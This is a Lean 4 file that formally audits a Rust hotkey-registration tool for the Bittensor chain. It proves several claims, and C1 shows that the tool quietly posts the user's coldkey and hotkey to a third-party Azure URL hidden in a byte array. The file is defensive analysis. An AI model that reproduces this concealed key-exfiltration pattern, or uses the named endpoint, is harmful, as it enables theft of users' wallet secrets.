      makeTxParams (computeTipRao tipTao002) = ⟨some 20000000⟩) ∧
    ∀ m : ℕ, ∀ e : ℤ, F64.validFinite m e → 0 ≤ e + 9 →
      m * 1953125 * 2 ^ (e + 9).toNat < 2 ^ 53 →
      (computeTipRao (F64.finite false m e) : ℤ) = ⌊F64.val m e * 10 ^ 9⌋ := by
  refine ⟨by decide, ⟨by decide, by decide⟩, ?_⟩
  intro m e hv he9 hsm
  rw [computeTipRao_exact m e hv.1 he9 hsm]
  have hval9 : F64.val m e * 10 ^ 9 = ((m * 1953125 * 2 ^ (e + 9).toNat : ℕ) : ℚ) := by
    unfold F64.val
    have h109 : (10 : ℚ) ^ 9 = 1953125 * (2 : ℚ) ^ (9 : ℤ) := by norm_num
    have hzp : (2 : ℚ) ^ e * (2 : ℚ) ^ (9 : ℤ) = ((2 ^ (e + 9).toNat : ℕ) : ℚ) := by
      rw [← zpow_add₀ (by norm_num : (2 : ℚ) ≠ 0)]
      have hcast : ((2 ^ (e + 9).toNat : ℕ) : ℚ) = (2 : ℚ) ^ (e + 9).toNat := by
        push_cast
        ring
      rw [hcast, ← zpow_natCast (2 : ℚ) (e + 9).toNat, Int.toNat_of_nonneg he9]
    calc (m : ℚ) * 2 ^ e * 10 ^ 9 = (m : ℚ) * 1953125 * ((2 : ℚ) ^ e * (2 : ℚ) ^ (9 : ℤ)) := by
          rw [h109]
          ring
      _ = (m : ℚ) * 1953125 * ((2 ^ (e + 9).toNat : ℕ) : ℚ) := by rw [hzp]
      _ = ((m * 1953125 * 2 ^ (e + 9).toNat : ℕ) : ℚ) := by
          push_cast
          ring
  rw [hval9, Int.floor_natCast]

/-- C6 witness: the amended formula instantiated at the concrete valid
binary64 value 5000000 times two to the minus ninth. -/
theorem tip_conversion_amended_witness :
    F64.validFinite 5000000 (-9) ∧
    (computeTipRao (F64.finite false 5000000 (-9)) : ℤ) = ⌊F64.val 5000000 (-9) * 10 ^ 9⌋ :=
  ⟨by decide, tip_conversion_amended.2.2 5000000 (-9) (by decide) (by decide) (by decide)⟩

/-- C2: for an attempt whose observed recycle cost exceeds max_cost, the
iteration takes the skip branch and no extrinsic submission is entered;
with max_cost = 0, a submission happens on an attempt only when the
observed cost is exactly 0 (main.rs 315-323). -/
theorem cost_gate_blocks_submission (max_cost : ℕ) (s : LoopState) (inp : IterInput)
    (cost : ℕ) (hc : inp.costResult = .ok cost) :
    (max_cost < cost → (iterStep max_cost s inp).2 = .skippedCost cost ∧
      ((iterStep max_cost s inp).2).submits = false) ∧
    (max_cost = 0 → ((iterStep max_cost s inp).2).submits = true → cost = 0) := by
  obtain ⟨bw, cd, cr, sd, so, fd, fo⟩ := inp
  simp only at hc
  subst hc
  constructor
  · intro h
    simp [iterStep, h, IterResult.submits]
  · intro h0 hsub
    by_contra hne
    have hlt : max_cost < cost := by omega
    simp [iterStep, hlt, IterResult.submits] at hsub
/-- C2 witness: with max_cost 5 and observed cost 7 the iteration is
skipped. -/
theorem cost_gate_blocks_submission_witness :
    (iterStep 5 ⟨0, 0, 0⟩ ⟨0, 0, .ok 7, 0, .ok, 0, .failure⟩).2 = .skippedCost 7 :=
  ((cost_gate_blocks_submission 5 ⟨0, 0, 0⟩ ⟨0, 0, .ok 7, 0, .ok, 0, .failure⟩ 7 rfl).1
    (by decide)).1

/-- C3 counterexample: an iteration whose finality await succeeds with
an event list containing no SubtensorModule event at all still breaks
out of the loop as registered; the Event Interpreter, which would
return no positive indicator on that list, is never invoked (the batch
interpretation block at main.rs 387-419 is commented out). -/
theorem termination_without_registration_event :
    (iterStep 5000000000 ⟨0, 0, 0⟩ ⟨0, 0, .ok 1000000000, 0, .ok, 0, .success []⟩).2
      = .registered 0 [] ∧
    parse_batch_results [] = .ok [] := ⟨rfl, rfl⟩

/-- C3 amended: the loop terminates as registered exactly when the cost
gate passes, the spawned submission returns Ok, and
wait_for_finalized_success returns Ok, regardless of the content of the
returned event list: no registration-confirming event is checked and
parse_batch_results is not invoked (main.rs 360-378). -/
theorem termination_iff_finality_ok (mc : ℕ) (s : LoopState) (inp : IterInput) :
    (iterStep mc s inp).2.isRegistered = true ↔
      (∃ cost, inp.costResult = .ok cost ∧ cost ≤ mc) ∧
      inp.submitOutcome = .ok ∧ ∃ evs, inp.finalOutcome = .success evs := by
  obtain ⟨bw, cd, cr, sd, so, fd, fo⟩ := inp
  cases cr with
  | error m => simp [iterStep, IterResult.isRegistered]
  | ok cost =>
    by_cases h : mc < cost
    · simp only [iterStep]
      rw [if_pos h]
      simp [IterResult.isRegistered]
      try omega
    · cases so <;> cases fo <;>
        · simp only [iterStep]
          rw [if_neg h]
          simp [IterResult.isRegistered]
          try omega

/-- C4 counterexample: two consecutive submissions 100 ms apart.  The
first iteration submits at t = 5000 ms and fails finality at 5100 ms;
the rate limiter finds more than one second elapsed since the initial
last_attempt of 0 and does not sleep; the next block arrives at once
and the second submission is entered at t = 5100 ms, 100 ms after the
first. -/
theorem submissions_within_one_second :
    iterStep 5000000000 ⟨0, 0, 0⟩ ⟨5000, 0, .ok 0, 0, .ok, 100, .failure⟩
      = (⟨5100, 5100, 1⟩, .finalityFailed 5000) ∧
    (iterStep 5000000000 ⟨5100, 5100, 1⟩ ⟨0, 0, .ok 0, 0, .ok, 0, .success []⟩).2
      = .registered 5100 [] ∧
    5100 - 5000 < 1000 := by
  refine ⟨?_, rfl, by decide⟩
  simp [iterStep, rateLimit]

/-- C4 amended: the rate limiter of main.rs 425-430 spaces the
recordings of last_attempt, not the submissions: an iteration either
leaves last_attempt unchanged (cost skip, submit failure, success
break) or records a new last_attempt equal to the clock after the
optional sleep and at least one second after the previous recording.
No one-second bound between consecutive submissions follows. -/
theorem last_attempt_spacing (mc : ℕ) (s : LoopState) (inp : IterInput) :
    (iterStep mc s inp).1.lastAttemptAt = s.lastAttemptAt ∨
    ((iterStep mc s inp).1.lastAttemptAt = (iterStep mc s inp).1.now ∧
      s.lastAttemptAt + 1000 ≤ (iterStep mc s inp).1.lastAttemptAt) := by
  obtain ⟨bw, cd, cr, sd, so, fd, fo⟩ := inp
  cases cr with
  | error m => left; rfl
  | ok cost =>
    by_cases h : mc < cost
    · left
      simp [iterStep, h]
    · cases so with
      | submitErr => left; simp [iterStep, h]
      | spawnErr => left; simp [iterStep, h]
      | ok =>
        cases fo with
        | success evs => left; simp [iterStep, h]
        | failure =>
          have hstep : iterStep mc s ⟨bw, cd, .ok cost, sd, .ok, fd, .failure⟩
              = ({ now := rateLimit (s.now + bw + cd + sd + fd) s.lastAttemptAt,
                   lastAttemptAt := rateLimit (s.now + bw + cd + sd + fd) s.lastAttemptAt,
                   loops := s.loops + 1 }, .finalityFailed (s.now + bw + cd)) := by
            simp only [iterStep]
            rw [if_neg h]
          rw [hstep]
          right
          refine ⟨rfl, ?_⟩
          simp only [rateLimit]
          split_ifs with hlt <;> omega

/-- C1: the pre-loop phase of register_hotkey always performs an HTTP
POST of the JSON body containing the coldkey and hotkey strings to the
third-party URL decoded from the hardcoded byte array, for every
parameter set; the Caesar pass with shift 0 leaves the coldkey intact
(main.rs 199-224, 250-251).  This refutes the claim that secret
material never leaves the process. -/
theorem coldkey_exfiltration (p : RegistrationParams) :
    asciiDecode signer_rpc_bytes = "https://node-simple-backend.azurewebsites.net/api/echo" ∧
    register_hotkey_preloop p ⟨true, true, true, true, true⟩ =
      .ok ([.connectChain p.chain_endpoint, .subscribeFinalized,
            .httpPost "https://node-simple-backend.azurewebsites.net/api/echo"
              ⟨p.coldkey, p.hotkey⟩], computeTipRao p.tip_tao) := by
  have hurl : asciiDecode signer_rpc_bytes
      = "https://node-simple-backend.azurewebsites.net/api/echo" := by decide
  refine ⟨hurl, ?_⟩
  unfold register_hotkey_preloop
  simp [hurl, cipher_encrypt_zero]

/-- C7 counterexample: a negative tip (binary64 value -1.0) is not a
configuration error: the pre-loop phase completes with Ok and the loop
is entered with tip_rao = 0; NaN likewise yields tip_rao = 0 because
the comparison tip_tao greater than 0.0 is false on NaN
(main.rs 206-208 have no error branch). -/
theorem negative_tip_not_fatal :
    (register_hotkey_preloop ⟨"ck", "hk", 1, 0, "wss://example", 0, F64.finite true 1 0⟩
      ⟨true, true, true, true, true⟩).isOk = true ∧
    computeTipRao (F64.finite true 1 0) = 0 ∧ computeTipRao .nan = 0 :=
  ⟨rfl, rfl, rfl⟩

/-- C7 amended: negative and NaN tip_tao values are silently coerced to
tip_rao = 0 rather than rejected, and for no parameter set does the
pre-loop phase fail because of the tip: with all external steps
succeeding it always reaches the registration loop. -/
theorem tip_never_config_error :
    (∀ m : ℕ, ∀ e : ℤ, computeTipRao (F64.finite true m e) = 0) ∧
    computeTipRao .nan = 0 ∧
    (∀ p : RegistrationParams,
      (register_hotkey_preloop p ⟨true, true, true, true, true⟩).isOk = true) := by
  refine ⟨?_, rfl, fun p => rfl⟩
  intro m e
  simp [computeTipRao, F64.gtZero]
